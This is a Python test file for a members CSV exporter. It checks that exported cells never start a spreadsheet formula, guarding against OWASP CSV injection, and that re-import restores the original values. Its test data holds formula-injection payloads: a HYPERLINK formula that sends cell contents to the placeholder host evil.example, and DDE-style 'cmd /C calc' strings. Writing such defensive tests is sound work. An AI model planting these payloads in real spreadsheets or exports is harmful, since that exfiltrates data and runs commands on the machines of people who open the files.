"""CSV injection (OWASP): an exported cell never starts a spreadsheet formula, and import undoes the guard."""

from __future__ import annotations

import csv
import io

from agents.csvsafe import TRIGGERS
from agents.members_csv import parse_csv, to_csv
from schemas.members import Member

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted"]


def members() -> list[Member]:
    return [Member(member_id=f"m{i}", organization=org, contact_name=f"{org[:20]} contact", phone=f"+5049123672{i}",
                   email=f"m{i}@example.org", country="HN", working_groups=["-land", "=sea"])
            for i, org in enumerate(PAYLOADS)]


def test_members_export_cells_never_start_a_formula():
    rows = list(csv.reader(io.StringIO(to_csv(members()))))
    assert rows[1][1] == "'" + EVIL
    assert all(cell[0] not in TRIGGERS for row in rows for cell in row if cell)


def test_members_export_reads_back_unchanged():
    before = members()
    after, rejected = parse_csv(to_csv(before))
    assert rejected == []
    assert after[0].organization == EVIL and after[0].phone == "+50491236720"
    assert [m.model_dump(exclude={"updated_at"}) for m in after] == [m.model_dump(exclude={"updated_at"}) for m in before]
